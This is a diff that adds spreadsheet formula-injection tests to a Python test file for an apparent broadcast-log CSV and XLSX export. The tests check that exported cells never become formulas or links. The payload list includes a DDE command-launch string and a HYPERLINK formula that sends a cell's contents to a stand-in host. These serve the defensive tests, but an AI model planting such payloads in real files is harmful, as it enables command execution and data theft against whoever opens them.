@@ -1,6 +1,7 @@
 import csv
 import datetime
 import io
+import zipfile
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
@@ -64,3 +65,46 @@ def test_an_apology_stands_in_the_workbook_and_is_not_counted(tmp_path: Path) ->
     summary, log = sheets(to_xlsx(rows(store), ZONE, {}, {}))
     assert [row[7] for row in summary if row[0] == "ben-hai"] == [3]
     assert len(log) == 5
+
+
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://x.test/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    "http://x.test/",
+    "{=1+1}",
+]
+
+
+def attacked(tmp_path: Path) -> Database:
+    """A log in which what people name is a formula."""
+    store = Database(tmp_path / "station.db")
+    for number, text in enumerate(FORMULAS):
+        entry = NewRow(
+            airing=f"tin@{number}", broadcast=text, commune=text, output=text, planned=NOON, outcome="missed", reason=text
+        )  # fmt: skip
+        append(store, entry, NOON)
+    return store
+
+
+def test_no_cell_of_the_csv_is_a_formula(tmp_path: Path) -> None:
+    store = attacked(tmp_path)
+    for row in csv.DictReader(io.StringIO(to_csv(rows(store), ZONE).removeprefix("\ufeff"), newline="")):
+        for name in ("broadcast", "commune", "output", "reason"):
+            assert row[name].lstrip("'") in FORMULAS
+            assert row[name][0] in "'h{", row[name]
+
+
+def test_no_cell_of_the_workbook_is_a_formula_or_a_link(tmp_path: Path) -> None:
+    topics = {text: (text,) for text in FORMULAS}
+    book = to_xlsx(rows(attacked(tmp_path)), ZONE, topics, {text: text for text in FORMULAS})
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        found = [archive.read(name).decode() for name in archive.namelist() if "/worksheets/" in name]
+    assert len(found) >= 2
+    assert not any("<f>" in text or "<f " in text or "<hyperlink" in text for text in found)
